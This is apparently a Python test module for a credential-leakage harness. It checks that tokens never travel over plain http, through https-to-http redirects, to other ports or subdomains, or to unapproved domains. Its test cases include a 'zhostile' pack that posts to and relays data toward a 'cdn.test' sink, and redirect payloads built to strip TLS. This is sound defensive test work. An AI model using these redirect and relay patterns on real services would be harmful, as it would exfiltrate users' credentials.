"""Credentials leaving the safe channel: a token may travel only over https (or to a
loopback test mapping whose bytes never leave the machine), never across a change of
scheme, host or port, and never to a place the operator did not approve. ``secure`` and
``plain.bench.test`` resolve to a public address (no test mapping vouches for them); the
egress layer delivers them to the local TLS and plain servers."""

from __future__ import annotations

from typing import Any, Callable

from ..harness import Attack, Bench, Observation


def _no_credential_at(server: str, *, key: str = "authorization") -> Callable[
        [Bench, Observation], str | None]:
    """No request that reached ``server`` carried a credential."""
    def verify(bench: Bench, seen: Observation) -> str | None:
        port = bench.port(server)
        arrived = [r for r in seen.new_requests
                   if r.headers.get("host", "").endswith(f":{port}")]
        if key == "api_key":
            carried = [r for r in arrived if "api_key" in r.query]
        else:
            carried = [r for r in arrived if key in r.headers]
        return f"{len(carried)} request(s) carried the credential in clear" if carried else None
    return verify


def _secure(path: str, *, scheme: str = "https", server: str = "tls",
            host: str = "secure.bench.test") -> Callable[[Bench], Any]:
    def run(bench: Bench) -> Any:
        filled = path.format(plain=bench.port("plain"), tls=bench.port("tls"),
                             port=bench.port())
        url = f"{scheme}://{host}:{bench.port(server)}{filled}"
        return bench.call("zsecure", "Fetch", url, connection=bench.connections["secure"],
                          principal="alice")
    return run


def _call(pack: str, connection: str, formula: str, *args: str) -> Callable[[Bench], Any]:
    def run(bench: Bench) -> Any:
        values = [a.format(port=bench.port(), other=bench.port("other")) for a in args]
        return bench.call(pack, formula, *values, connection=bench.connections[connection],
                          principal="alice")
    return run


def _baseline(bench: Bench, seen: Observation) -> str | None:
    auth = [r for r in seen.new_requests if r.path == "/auth"]
    if not auth or "authorization" not in auth[-1].headers:
        return "the token did not reach its own https API (the setup is broken)"
    return None


def attacks() -> list[Attack]:
    sure = _no_credential_at("plain")
    out = [
        Attack("baseline: the token reaches its auth domain over https", "channel", "ok",
               _secure("/auth"), verify=_baseline, language="zig"),
        Attack("plain http fetch to the auth domain (allow_http on)", "channel",
               "ok|fetch_denied", _secure("/echo", scheme="http", server="plain"),
               verify=sure, quick=True, language="zig"),
        Attack("plain http fetch to the auth domain's network twin plain.bench.test",
               "channel", "ok|fetch_denied",
               _secure("/echo", scheme="http", server="plain", host="plain.bench.test"),
               verify=sure, language="zig"),
    ]
    for code in (301, 302, 303, 307, 308):
        out.append(Attack(f"{code} redirect from https to http on the auth domain", "channel",
                          "ok|fetch_denied",
                          _secure(f"/redirect?code={code}&to=http://secure.bench.test:{{plain}}"
                                  "/echo"), verify=sure, quick=code == 302, language="zig"))
    out += [
        Attack("redirect from https to http on another declared host", "channel",
               "ok|fetch_denied",
               _secure("/redirect?to=http://plain.bench.test:{plain}/echo"), verify=sure,
               language="zig"),
        Attack("redirect from https to an http hop that redirects back to https", "channel",
               "ok|fetch_denied",
               _secure("/redirect?to=http://secure.bench.test:{plain}/redirect%3Fto%3D"
                       "https://secure.bench.test:{tls}/echo"),
               verify=lambda b, s: sure(b, s) or _no_credential_after_hop(b, s),
               language="zig"),
        Attack("bare auth domain: a subdomain on another port", "channel", "ok|fetch_denied",
               _call("zsub", "sub", "Fetch", "http://static.bench.test:{other}/echo"),
               verify=_no_credential_at("other"), language="zig"),
        Attack("redirect from the auth domain to a subdomain on another port", "channel",
               "ok|fetch_denied",
               _call("zsub", "sub", "Fetch",
                     "http://bench.test:{port}/redirect?to=http://static.bench.test:{other}/echo"),
               verify=_no_credential_at("other"), language="zig"),
        Attack("redirect Location repeating the query key, to a declared non-auth host",
               "channel", "fetch_denied",
               _call("zquery", "query", "Fetch",
                     "http://bench.test:{port}/reflect-redirect?to=http://cdn.test:{port}/json"),
               rule="redirect_secret", verify=_no_key_at_cdn, quick=True, language="zig"),
        Attack("redirect Location repeating the query key, to the same host", "channel",
               "fetch_denied",
               _call("zquery", "query", "Fetch",
                     "http://bench.test:{port}/reflect-redirect?to=http://bench.test:{port}/json"),
               rule="redirect_secret", language="zig"),
        Attack("a call holding a connection posts to an unapproved declared domain",
               "channel", "fetch_denied",
               _call("zhostile", "alice", "FetchMethod", "http://cdn.test:{port}/sink", "POST"),
               rule="unapproved_domain", verify=_untouched_sink, quick=True, language="zig"),
        Attack("a call holding a connection relays its answer to an unapproved domain",
               "channel", "ok",
               _call("zhostile", "alice", "Relay", "http://bench.test:{port}/whoami",
                     "http://cdn.test:{port}/sink", "", "", "text"),
               verify=_untouched_sink, language="zig"),
    ]
    return out


def _no_credential_after_hop(bench: Bench, seen: Observation) -> str | None:
    tls = bench.port("tls")
    back = [r for r in seen.new_requests if r.path == "/echo"
            and r.headers.get("host", "").endswith(f":{tls}")]
    if any("authorization" in r.headers for r in back):
        return "the token came back after a hop through plain http"
    return None


def _no_key_at_cdn(bench: Bench, seen: Observation) -> str | None:
    at_cdn = [r for r in seen.new_requests if r.headers.get("host", "").startswith("cdn.test")]
    return "the query key reached cdn.test" if any("api_key" in r.query for r in at_cdn) else None


def _untouched_sink(bench: Bench, seen: Observation) -> str | None:
    reached = [r for r in seen.new_requests if r.path == "/sink"]
    return f"{len(reached)} request(s) reached the unapproved domain" if reached else None
